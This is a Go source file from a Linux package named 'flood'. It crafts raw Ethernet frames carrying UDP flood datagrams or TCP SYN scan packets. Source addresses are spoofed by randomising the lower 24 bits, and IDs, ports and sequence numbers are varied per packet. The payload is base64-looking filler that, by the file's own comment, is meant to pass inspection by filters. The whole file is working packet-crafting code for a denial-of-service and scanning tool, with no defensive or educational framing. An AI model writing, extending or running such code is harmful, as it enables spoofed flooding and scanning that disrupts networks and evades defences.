//go:build linux

package flood

import (
	"encoding/binary"
	"net"

	"golang.org/x/sys/unix"
)

// Where the headers are in a frame: Ethernet, IPv4 without options, UDP or TCP.
const (
	ipAt        = 14
	sumAt       = ipAt + 10
	sourceAt    = ipAt + 12
	transportAt = ipAt + 20
	payloadAt   = transportAt + 8
	tcpSumAt    = transportAt + 16
	tcpEnd      = transportAt + 20
)

// letters are the characters of a base64 text. Programs that look at the form
// before they do anything expensive must find nothing wrong.
const letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

// frame is one Ethernet frame with a UDP datagram or a TCP SYN.
type frame []byte

// newFrame makes a frame that lacks its source only.
func newFrame(from net.HardwareAddr, o Orders) frame {
	size, protocol := payloadAt+o.Payload, byte(unix.IPPROTO_UDP)
	if o.Scan {
		size, protocol = tcpEnd, unix.IPPROTO_TCP
	}
	f := make(frame, size)
	copy(f, o.Gateway)
	copy(f[6:], from)
	binary.BigEndian.PutUint16(f[12:], unix.ETH_P_IP)

	f[ipAt] = 0x45 // version 4, five words of header
	binary.BigEndian.PutUint16(f[ipAt+2:], uint16(len(f)-ipAt))
	f[ipAt+8] = 64 // hops
	f[ipAt+9] = protocol
	to := o.To.As4()
	copy(f[ipAt+16:], to[:])
	if o.Scan {
		f[transportAt+12], f[transportAt+13] = 5<<4, 2 // five words of header; SYN
		binary.BigEndian.PutUint16(f[transportAt+14:], 1024)
		return f
	}
	binary.BigEndian.PutUint16(f[transportAt+2:], o.Port)
	binary.BigEndian.PutUint16(f[transportAt+4:], uint16(8+o.Payload)) // the checksum, zero, says that there is none
	for i := payloadAt; i < len(f); i++ {
		f[i] = letters[(i*37)%len(letters)]
	}
	return f
}

// isScan reports whether the frame holds a TCP SYN.
func (f frame) isScan() bool { return f[ipAt+9] == unix.IPPROTO_TCP }

// renew gives the frame a source, with the lower 24 bits of host, and changes
// its identification, source port, and payload or scanned port, by salt.
func (f frame) renew(host uint32, salt uint64) {
	first := Sources.Addr().As4()
	binary.BigEndian.PutUint32(f[sourceAt:], host&0x00ffffff|uint32(first[0])<<24)
	binary.BigEndian.PutUint16(f[ipAt+4:], uint16(salt>>16))
	binary.BigEndian.PutUint16(f[transportAt:], uint16(salt)|0x8000)
	if f.isScan() {
		f.aim(salt)
	}
	for i := payloadAt; !f.isScan() && i < min(payloadAt+16, len(f)); i++ {
		f[i] = letters[(salt+uint64(host))&63]
		salt, host = salt>>3|salt<<61, host>>2
	}
	f[sumAt], f[sumAt+1] = 0, 0
	binary.BigEndian.PutUint16(f[sumAt:], checksum(f[ipAt:transportAt]))
}

// aim gives a SYN the port that salt says, and all that follows from it.
func (f frame) aim(salt uint64) {
	binary.BigEndian.PutUint16(f[transportAt+2:], uint16(salt>>32))
	binary.BigEndian.PutUint32(f[transportAt+4:], uint32(salt>>8)) // sequence number
	f[tcpSumAt], f[tcpSumAt+1] = 0, 0
	pseudo := uint32(unix.IPPROTO_TCP) + tcpEnd - transportAt + sum(f[sourceAt:transportAt])
	binary.BigEndian.PutUint16(f[tcpSumAt:], fold(pseudo+sum(f[transportAt:tcpEnd])))
}

// checksum is that of RFC 1071.
func checksum(b []byte) uint16 { return fold(sum(b)) }

func sum(b []byte) (sum uint32) {
	for ; len(b) > 1; b = b[2:] {
		sum += uint32(binary.BigEndian.Uint16(b))
	}
	return sum
}

func fold(sum uint32) uint16 {
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}
